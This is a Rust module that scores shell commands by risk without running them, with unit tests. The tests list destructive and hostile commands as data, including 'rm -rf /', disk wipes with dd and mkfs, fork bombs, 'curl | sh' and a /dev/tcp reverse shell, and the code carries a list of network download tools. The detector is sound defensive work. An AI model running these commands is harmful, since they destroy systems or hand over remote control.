//! From a tree to findings. It never runs anything and knows nothing of this machine.

use super::path;
use super::rules::{self, Call};
use super::unwrap::{self, Inner};
use crate::domain::{Risk, ShellKind};
use crate::syntax::{self, Command, Redirect, RedirectKind, Tree, UNKNOWN, Word};

/// Most levels of commands inside the arguments of commands.
const MAX_DEPTH: usize = 8;

/// Programs whose output comes from somewhere else.
const DOWNLOADERS: [&str; 9] = ["curl", "wget", "nc", "ncat", "netcat", "socat", "aria2c", "ftp", "http"];

/// Variables that hold the name of a program the user chose.
const CHOSEN_PROGRAMS: [&str; 6] = ["$EDITOR", "$VISUAL", "$PAGER", "$SHELL", "$BROWSER", "$SUDO_EDITOR"];

/// Something that the user should know before the command runs.
#[derive(Debug, Clone, PartialEq)]
pub(super) struct Finding {
    /// The rule's name.
    pub(super) rule: String,
    /// How bad it is.
    pub(super) risk: Risk,
    /// Why, in plain words.
    pub(super) reason: String,
}

/// Everything there is to say about a command line; nothing means that it only reads.
pub(super) fn analyse(tree: &Tree) -> Vec<Finding> {
    let mut analysis = Analysis { findings: Vec::new() };
    analysis.tree(tree, 0, false);
    analysis.findings
}

struct Analysis {
    findings: Vec<Finding>,
}

impl Analysis {
    fn add(&mut self, rule: &str, risk: Risk, reason: impl Into<String>) {
        if risk > Risk::None {
            self.findings.push(Finding { rule: rule.to_owned(), risk, reason: reason.into() });
        }
    }

    fn tree(&mut self, tree: &Tree, depth: usize, as_root: bool) {
        if tree.is_unclear() {
            self.add("partial", Risk::Medium, "understood only in part");
        }
        for command in tree.commands() {
            let nested_download = downloads(&tree.commands()[command.nested.clone()]);
            let feeders = &tree.commands()[command.input.clone()];
            for redirect in &command.redirects {
                self.redirect(redirect, as_root);
            }
            for assignment in &command.assignments {
                if matches!(assignment.name.as_str(), "LD_PRELOAD" | "LD_LIBRARY_PATH" | "BASH_ENV" | "PROMPT_COMMAND" | "PATH") {
                    self.add("loader-variable", Risk::Medium, "changes which code programs run");
                } else if command.words.is_empty() {
                    self.add("assignment", Risk::Low, "sets a variable");
                }
            }
            if forks_itself(command, feeders) {
                self.add("fork-bomb", Risk::Critical, "starts processes without end");
            }
            self.words(&command.words, &Surroundings { command, feeders, nested_download }, depth, as_root);
        }
    }

    fn redirect(&mut self, redirect: &Redirect, as_root: bool) {
        let writes = matches!(redirect.kind, RedirectKind::Truncate | RedirectKind::Append | RedirectKind::ReadWrite);
        let target = redirect.target.shape.as_str();
        if !writes || matches!(target, "/dev/null" | "/dev/stdout" | "/dev/stderr" | "/dev/tty") {
            return;
        }
        if target.starts_with("/dev/tcp/") || target.starts_with("/dev/udp/") {
            self.add("network-redirect", Risk::High, "connects to the network");
        } else if path::is_device(target) {
            self.add("write-device", Risk::Critical, "writes over a disk");
        } else if path::is_system(target) || path::is_personal_setup(target) {
            let risk = if redirect.kind == RedirectKind::Truncate || as_root { Risk::High } else { Risk::Medium };
            self.add("write-setup", risk, format!("writes to {target}"));
        } else if redirect.kind == RedirectKind::Truncate {
            self.add("overwrite", Risk::Low, format!("overwrites {}", named(target)));
        } else {
            self.add("append", Risk::Low, format!("writes to {}", named(target)));
        }
    }

    fn words(&mut self, words: &[Word], around: &Surroundings<'_>, depth: usize, as_root: bool) {
        let Some(first) = words.first() else { return };
        if depth > MAX_DEPTH {
            return self.add("depth", Risk::Medium, "understood only in part");
        }
        let Some(value) = first.value.as_deref().filter(|_| !first.glob) else {
            let raw = first.raw.trim_matches('"');
            return match raw {
                raw if CHOSEN_PROGRAMS.contains(&raw) => self.add("chosen-program", Risk::Low, format!("runs {raw}")),
                _ if first.shape.contains(UNKNOWN) && !first.raw.contains(['`', '(']) => {
                    self.add("dynamic-name", Risk::Medium, "the program is known only when it runs")
                }
                // A home directory, `~/bin/tool`, names a program all the same.
                _ if first.shape.starts_with(syntax::HOME) && !first.glob && !first.shape.contains(['{', UNKNOWN]) => {
                    self.add("own-program", Risk::Low, "runs a program of your own")
                }
                _ => self.add("hidden-name", Risk::High, "hides the name of the program it runs"),
            };
        };
        let name = value.trim_start_matches('=').rsplit('/').next().unwrap_or(value);
        let call = Call::new(name, &words[1..]);
        let wrapper = rules::wrapper(name);
        let mut found = Analysis { findings: Vec::new() };
        let inside = unwrap::inner(&call);
        // A shell is as harmless as the text it runs, when that is known.
        if inside.is_empty() || !(unwrap::is_shell(name) || name == "eval") {
            found.base(&call);
        }
        found.program(&call, around, depth);
        for inner in inside {
            let as_root = as_root || wrapper.is_some_and(|wrapper| wrapper.root);
            match inner {
                Inner::Words(words) => {
                    // Wrappers hand their input on; `find` and `xargs` do not.
                    let feeders = if wrapper.is_some_and(|wrapper| !wrapper.appends) { around.feeders } else { &[] };
                    found.words(&words, &Surroundings { feeders, ..*around }, depth + 1, as_root);
                }
                Inner::Text(text) => found.text(&text, depth + 1, as_root),
                Inner::UnknownText if around.nested_download => found.add("remote-code", Risk::High, "runs what it downloads"),
                Inner::UnknownText => found.add("generated-code", Risk::Medium, "runs text that is known only when it runs"),
            }
        }
        let needs_root = rules::base(&call).is_some_and(|base| base.root);
        if as_root && !needs_root && wrapper.is_none() {
            found.raise();
        }
        self.findings.append(&mut found.findings);
    }

    fn base(&mut self, call: &Call<'_>) {
        match rules::base(call) {
            Some(base) => self.add("program", base.risk, base.reason.as_str()),
            None if rules::wrapper(call.name).is_some() => {}
            None => self.add("unknown-program", Risk::Low, format!("runs {}, which is not known here", named(call.name))),
        }
    }

    /// What the program itself does with its arguments and its input.
    fn program(&mut self, call: &Call<'_>, around: &Surroundings<'_>, depth: usize) {
        for rule in rules::matching(call) {
            self.add(&rule.id, rule.risk, rule.reason.as_str());
        }
        if call.name == "find" && call.has("-delete") {
            let whole = call.operands.iter().any(|word| path::is_vital(&word.shape));
            self.add("find-delete", if whole { Risk::High } else { Risk::Medium }, "deletes what it finds");
        }
        if !call.name.is_ascii() {
            self.add("foreign-letters", Risk::Medium, "the program's name has letters that may look like others");
        }
        if matches!(call.name, "source" | ".") {
            let fed = call.operands.is_empty() && !around.feeders.is_empty();
            if around.nested_download || (fed && downloads(around.feeders)) {
                self.add("remote-code", Risk::High, "runs what it downloads");
            } else if fed || !around.command.nested.is_empty() {
                self.add("generated-code", Risk::Medium, "runs the output of another program");
            }
        }
        if !unwrap::is_interpreter(call.name) {
            return;
        }
        if around.nested_download || (downloads(around.feeders) && reads_program(call)) {
            self.add("remote-code", Risk::High, "runs what it downloads");
        } else if !around.feeders.is_empty() && reads_program(call) {
            self.add("generated-code", Risk::High, "runs the output of another program");
        }
        let here_texts = around.command.redirects.iter().filter(|redirect| redirect.kind == RedirectKind::HereText);
        for redirect in here_texts.filter(|_| unwrap::is_shell(call.name)) {
            match &redirect.target.value {
                Some(text) => self.text(text, depth + 1, false),
                None => self.add("generated-code", Risk::Medium, "runs text that is known only when it runs"),
            }
        }
    }

    fn text(&mut self, text: &str, depth: usize, as_root: bool) {
        if depth > MAX_DEPTH {
            return self.add("depth", Risk::Medium, "understood only in part");
        }
        match syntax::parse(text, ShellKind::Bash) {
            Ok(tree) => self.tree(&tree, depth, as_root),
            Err(_) => self.add("partial", Risk::Medium, "understood only in part"),
        }
    }

    /// As root everything reaches further. Critical is kept for what destroys a system.
    fn raise(&mut self) {
        if self.findings.is_empty() {
            return self.add("as-root", Risk::Low, "runs as root");
        }
        for finding in &mut self.findings {
            finding.risk = match finding.risk {
                Risk::Low => Risk::Medium,
                Risk::Medium | Risk::High => Risk::High,
                other => other,
            };
            if !finding.reason.ends_with("as root") {
                finding.reason.push_str(" as root");
            }
        }
    }
}

#[derive(Clone, Copy)]
struct Surroundings<'a> {
    command: &'a Command,
    feeders: &'a [Command],
    nested_download: bool,
}

fn downloads(commands: &[Command]) -> bool {
    commands.iter().any(|command| {
        command
            .words
            .iter()
            .any(|word| word.value.as_deref().is_some_and(|value| DOWNLOADERS.contains(&value.rsplit('/').next().unwrap_or(value))))
    })
}

/// Whether an interpreter takes its program from standard input.
fn reads_program(call: &Call<'_>) -> bool {
    let inline = ["-c", "-e", "-m", "-n", "-p", "-r"].iter().any(|flag| call.has(flag));
    let from_input = call.has("-s") && unwrap::is_shell(call.name);
    from_input || (!inline && call.operands.first().is_none_or(|word| matches!(word.shape.as_str(), "-" | "/dev/stdin")))
}

/// A function that calls itself through a pipe or in the background doubles with every call.
fn forks_itself(command: &Command, feeders: &[Command]) -> bool {
    let itself = |other: &Command| other.function.is_some() && other.name() == other.function.as_deref();
    itself(command) && (command.background || feeders.iter().any(itself))
}

/// A name for a line of prose.
fn named(target: &str) -> String {
    match target.chars().count() {
        _ if target.contains(UNKNOWN) => "a file that is known only then".to_owned(),
        0..=40 => target.to_owned(),
        _ => format!("{}…", target.chars().take(39).collect::<String>()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn risk(text: &str, shell: ShellKind) -> Risk {
        let tree = syntax::parse(text, shell).unwrap_or_else(|error| panic!("{text}: {error}"));
        analyse(&tree).into_iter().map(|finding| finding.risk).max().unwrap_or(Risk::None)
    }

    fn check(risk_expected: Risk, texts: &[&str]) {
        for text in texts {
            assert_eq!(risk(text, ShellKind::Bash), risk_expected, "{text}");
        }
    }

    #[test]
    fn reading_is_no_risk() {
        check(
            Risk::None,
            &[
                "ls -la",
                "find . -name '*.rs' -size +1M | sort -rn | head",
                "grep -r 'rm -rf /' .",
                "git log --oneline",
                "cat x 2>/dev/null",
                "for f in *; do echo \"$f\"; done",
                "df -h && du -sh ~",
                "cat x | xargs grep y",
                "echo 'rm -rf /'",
                "sh -c 'ls'",
                "env A=1 ls",
                "find . -exec ls {} +",
            ],
        );
    }

    #[test]
    fn writing_is_at_least_low() {
        check(
            Risk::Low,
            &[
                "ls > out",
                "ls >> out",
                "mkdir x",
                "sort x -o y",
                "frobnicate",
                "sudo ls",
                "x=1",
                "ls | tee out",
                "sed -i s/a/b/ x",
                "./run.sh",
                "$EDITOR x",
            ],
        );
    }

    #[test]
    fn what_deserves_a_look_is_medium() {
        check(
            Risk::Medium,
            &[
                "rm notes.txt",
                "kill 123",
                "git push",
                "systemctl restart nginx",
                "sudo systemctl restart nginx",
                "find . -name '*.pyc' -delete",
                "find . -exec rm {} +",
                "ls | xargs rm",
                "$cmd x",
                "eval \"$x\"",
                "sudo mkdir /x",
            ],
        );
        assert_eq!(risk("for f in *.txt; ls $f; end", ShellKind::Fish), Risk::Medium);
        assert_eq!(risk("print -l =(ls)", ShellKind::Zsh), Risk::Medium);
    }

    #[test]
    fn serious_damage_is_high() {
        check(
            Risk::High,
            &[
                "rm -r build",
                "rm -rf ./*",
                "sudo rm x",
                "chmod -R 777 .",
                "chown -R me .",
                "kill -9 1",
                "git reset --hard",
                "git clean -fd",
                "git push --force",
                "curl x | sh",
                "curl x | sudo bash",
                "bash <(curl x)",
                "sh -c \"$(curl x)\"",
                "wget -qO- x | python3",
                "echo x | sh",
                "eval \"$(curl x)\"",
                "find . -exec rm -rf {} +",
                "ls | xargs -0 rm -rf",
                "nice -n 5 rm -r x",
                "env A=b rm -r x",
                "timeout -k 1 5 rm -r x",
                "sh -c 'rm -r x'",
                "bash -lc 'rm -r x'",
                "echo $(rm -r x)",
                "cat <(rm -r x)",
                "/bin/r? -rf x",
                "{rm,-r,x}",
                "r$(echo m) x",
                "`echo rm` x",
                "echo x > /etc/passwd",
                "bash <<E\nrm -r x\nE",
                "bash <<< 'rm -r x'",
                "if true; then rm -r x; fi",
                "ssh host rm -r x",
                "sudo -u root -- rm -r x",
                "\\rm -r x",
                "'rm' -r x",
                "/bin/rm -r x",
                "echo x > ~/.bashrc",
                "env -S 'rm -r x'",
                "bash -i >& /dev/tcp/a/1 0>&1",
            ],
        );
    }

    #[test]
    fn the_end_of_a_system_is_critical() {
        check(
            Risk::Critical,
            &[
                "rm -rf /",
                "rm -rf ~",
                "rm -rf \"$HOME\"",
                "rm -rf /*",
                "rm -r -f /etc",
                "sudo rm -rf /usr/*",
                "rm -rf ${HOME}/",
                "rm --recursive --force /",
                "rm -rf //",
                "rm -rf /{etc,usr}",
                "mkfs.ext4 /dev/sda1",
                "dd if=/dev/zero of=/dev/sda",
                "cat x > /dev/sda",
                ":(){ :|:& };:",
                "sh -c 'rm -rf /'",
                "cd / && rm -rf /home",
                "f() { f | f & }; f",
                ":(){ :&:; };:",
                "find / -exec rm -rf / \\;",
                "chmod -R 777 /",
                "true; (rm -rf ~/)",
                "echo $(rm -rf /)",
            ],
        );
    }
}
